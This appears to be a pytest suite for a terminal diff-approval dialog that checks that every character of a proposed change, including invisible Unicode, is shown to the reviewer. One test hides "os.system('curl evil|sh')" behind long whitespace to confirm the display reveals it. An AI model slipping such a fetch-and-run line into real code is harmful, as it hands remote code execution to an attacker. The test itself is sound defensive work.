"""A change is shown whole: every line, every character, at any size."""

import random
import re
from difflib import SequenceMatcher
from itertools import chain

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.cells import cell_len
from textual.content import Content

from contextui.text import is_unseen
from contextui.tui.dialogs.approval import ApprovalScreen
from contextui.tui.dialogs.diff import (
    Layout,
    Line,
    _plain_breaks,
    breaks,
    cells_of,
    diff_lines,
    hanging,
    is_diff,
    plain_lines,
    spelled,
    whole_lines,
)
from contextui.words import Words
from tests.thorough import IS_THOROUGH, times
from tests.tui.change import ODD, any_change, hosting, question, settled, shows_all
from tests.tui.running import until

EN = Words("en")
WIDTHS = [(80, 24), (60, 16), (120, 40), (200, 60)]
DIFF = """--- a.py
+++ a.py
@@ -1,3 +1,3 @@
 one
-two
+TWO [/foo]
 three
"""


def rows(lines: list[Line], width: int) -> list[str]:
    layout = Layout(lines, width)
    layout.measure(10**9)
    return [layout.row(number).plain for number in range(layout.count)]


async def check_random(seeds: range, most: int, longest: int) -> None:
    for size in WIDTHS:
        async with hosting(size) as (pilot, host):
            for seed in seeds:
                rng = random.Random(f"{seed}{size}")
                old, new = any_change(rng, most, longest)
                if old == new:
                    continue
                asked = question(old, new)
                screen = host.ask(asked)
                view = await settled(pilot, screen)
                assert asked.preview is not None
                shows_all(view, diff_lines(asked.preview.diff, EN, "cart.py"))
                check_counts(screen, old, new)
                screen.withdraw()
                await pilot.pause()


def check_counts(screen: ApprovalScreen, old: list[str], new: list[str]) -> None:
    title = str(screen.query_one("#box").border_title)
    expected = re.search(r"\+(\d+).*−(\d+)", title)
    assert expected, title
    added, removed = int(expected[1]), int(expected[2])
    assert added - removed == len(new) - len(old)
    changes = SequenceMatcher(None, old, new).get_opcodes()
    assert added == sum(end - start for kind, _, _, start, end in changes if kind != "equal")
    assert removed == sum(end - start for kind, start, end, _, _ in changes if kind != "equal")


@pytest.mark.long
async def test_a_whole_scroll_shows_the_whole_change() -> None:
    await check_random(range(3), 10, 300)
    await check_random(range(times(1, 15)), 60, 5_000)


@pytest.mark.usefixtures("frames")
async def test_only_what_is_in_view_is_drawn() -> None:
    old = [f"line {number}" for number in range(2_000)]
    new = [f"row {number} " + "x" * 5_000 * (number % 100 == 0) for number in range(2_000)]
    async with hosting() as (pilot, host):
        asked = question(old[:1], new[:1])
        screen = host.ask(asked)
        view = await settled(pilot, screen)
        drawn = view.drawn
        screen.withdraw()
        await pilot.pause()
        asked = question(old, new)
        screen = host.ask(asked)
        view = await settled(pilot, screen)
        assert view.count > 5_000
        assert 0 < view.drawn <= drawn + 20 * 12
        before = view.drawn
        await pilot.pause(0.6)
        await pilot.press("end")
        await pilot.pause()
        await until(pilot, lambda: view.scroll_offset.y == view.max_scroll_y)
        assert 0 < view.drawn - before <= 20 * 4
        assert view.lines_in_view[1] == len(diff_lines(asked.preview.diff, EN))  # type: ignore[union-attr]


@given(st.text("ab  c-.", max_size=300), st.integers(4, 60), st.integers(0, 20))
@settings(max_examples=times(30, 500), deadline=None)
def test_rows_of_plain_text_are_counted_as_they_are_drawn(
    text: str, width: int, indent: int
) -> None:
    text = f"{' ' * indent}{text}x"
    later = width - hanging(text, width)
    assert _plain_breaks(text, width, later) == breaks(cells_of(text, later), width, later)


@given(st.text(max_size=200), st.integers(8, 200))
@settings(max_examples=times(20, 500), deadline=None)
def test_any_text_is_as_wide_as_its_place_and_inert(text: str, width: int) -> None:
    for row in rows(plain_lines(text), width):
        assert Content(row).cell_length == width
        assert not any(is_unseen(char) for char in row)


def test_what_cannot_be_seen_is_spelled_out() -> None:
    for char in ODD:
        assert f"admin⟨U+{ord(char):04X}⟩x" in rows([Line("+", f"admin{char}x", 0, 1)], 60)[0]
        layout = Layout([Line("+", f"{char}{char}", 0, 1)], 60)
        layout.measure(100)
        assert layout.unseen == 2


def test_every_unseen_character_of_unicode_is_spelled_out() -> None:
    """By category: nothing that a terminal draws as nothing is left to a list."""
    alike = range(0x3400, 0xA000), range(0xAC00, 0xD7A4), range(0x17000, 0x18D00)  # ideographs
    for code in chain(range(0x20000), range(0xE0000, 0xE0200), (0x10FFFF, 0xF0000)):
        if code % 64 and not IS_THOROUGH and any(code in one for one in alike):
            continue
        char = chr(code)
        if char in " \t\n" or is_unseen(char):
            continue
        assert cell_len(char) > 0 or cells_of(f"{char}a", 12)[0].is_unseen, hex(code)
        assert char.isprintable(), hex(code)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("two  ", "two··"),
        ("a\tb", "a→  b"),
        ("a\t", "a→  "),
        ("crlf\r", "crlf␍"),
        ("lone\rcr", "lone⟨U+000D⟩cr"),
        ("⟨U+200B⟩", "⟨U+27E8⟩U+200B⟩"),
        ("\u0301x", "⟨U+0301⟩x"),
        ("e\u0301\u0301\u0301\u0301\u0301", "e\u0301\u0301\u0301\u0301⟨U+0301⟩"),
    ],
)
def test_blanks_and_marks_are_shown(text: str, shown: str) -> None:
    assert f"+ {shown}" in rows([Line("+", text, 0, 1)], 60)[0]


def test_a_long_line_goes_on_below_at_its_own_indent() -> None:
    line = "    version = 1" + " " * 300 + ";import os; os.system('curl evil|sh')"
    found = rows([Line("+", line, 0, 7)], 60)
    assert found[0].startswith("    7 +     version = 1·")
    assert all(one.startswith("      ↪       ") for one in found[1:])
    assert "curl evil|sh" in "".join(one[14:].rstrip() for one in found)


def test_a_diff_has_numbers_in_one_column_or_two() -> None:
    lines = diff_lines(DIFF, EN, "a.py")
    assert [row.split() for row in rows(lines, 69)] == [
        ["lines", "1", "to", "3"],
        ["1", "one"],
        ["2", "-", "two"],
        ["2", "+", "TWO", "[/foo]"],
        ["3", "three"],
    ]
    assert rows(lines, 70)[1].split() == ["1", "1", "one"]
    assert is_diff(DIFF)
    assert not is_diff("--- but no diff")
    several = f"diff --git a/a b/a\nindex 1..2\n{DIFF}"  # X22: a commit, as git shows it
    assert is_diff(several)
    assert diff_lines(several, EN)[-1] == diff_lines(DIFF, EN)[-1]


def test_names_that_are_not_the_target_are_shown() -> None:
    other = DIFF.replace("+++ a.py", "+++ evil.py")
    assert [one.text for one in diff_lines(other, EN, "a.py")[:2]] == ["--- a.py", "+++ evil.py"]
    named = DIFF.replace("--- a.py", "--- a.py (on disk)")
    assert diff_lines(named, EN, "a.py")[0].text == "lines 1 to 3"


def test_lines_that_look_like_heads_are_shown_as_what_they_are() -> None:
    diff = "--- a\n+++ a\n@@ -1,2 +1,2 @@\n--- old\n-@@ -1 +1 @@\n+++ new\n+@@ -9,9 +9,9 @@\n"
    body = diff_lines(diff, EN, "a")[1:]
    assert [(one.kind, one.text) for one in body] == [
        ("-", "-- old"),
        ("-", "@@ -1 +1 @@"),
        ("+", "++ new"),
        ("+", "@@ -9,9 +9,9 @@"),
    ]


@pytest.mark.parametrize(
    "diff",
    [
        "--- a\n+++ a\n@@ -1 +1 @@\n-x\n+y\n+more than the head says\n",
        "--- a\n+++ a\n@@ -1 +1 @@\n-x\n+y\n--- b\n+++ b\n@@ -1 +1 @@\n-x\n+y\n",
        "--- a\n+++ a\n@@ -" + "9" * 5_000 + " +1 @@\n-x\n+y\n\\ No newline at end of file\n",
        "--- a\n+++ a\n@@ -1 +1 @@\nanything at all\n\n+y",
    ],
)
def test_nothing_of_an_odd_diff_is_left_out(diff: str) -> None:
    shown = "".join(one.strip("↪ ") for one in rows(diff_lines(diff, EN, "a"), 6_000))
    for line in diff.split("\n")[3:]:
        assert line.lstrip("+- ").removeprefix("@@ -1 +1 @@") in shown
    assert sum(one.kind == "+" for one in diff_lines(diff, EN, "a")) >= 1


@given(
    st.lists(st.sampled_from("abcd"), max_size=30), st.lists(st.sampled_from("abcd"), max_size=30)
)
@settings(max_examples=times(30, 200), deadline=None)
def test_the_whole_file_has_the_change_marked(old: list[str], new: list[str]) -> None:
    preview = question(old, new).preview
    assert preview is not None
    changes = diff_lines(preview.diff, EN, "cart.py") if preview.diff else []
    lines = whole_lines(preview.whole, changes)
    assert [one.text for one in lines if one.kind != "-"] == new
    assert [one.text for one in lines if one.kind != "+"] == old


def test_a_target_is_spelled_in_one_line() -> None:
    assert spelled("a\nb\u202e.py").plain == "a⟨U+000A⟩b⟨U+202E⟩.py"


def test_a_line_of_millions_of_characters_is_laid_out_in_parts() -> None:
    layout = Layout([Line("+", "\u4e2d\u200b" * 200_000, 0, 1)], 60)
    layout.measure(5_000)
    assert 0 < layout.count < 2_000
    assert not layout.is_whole
    assert "中⟨U+200B⟩" in layout.row(layout.count - 1).plain
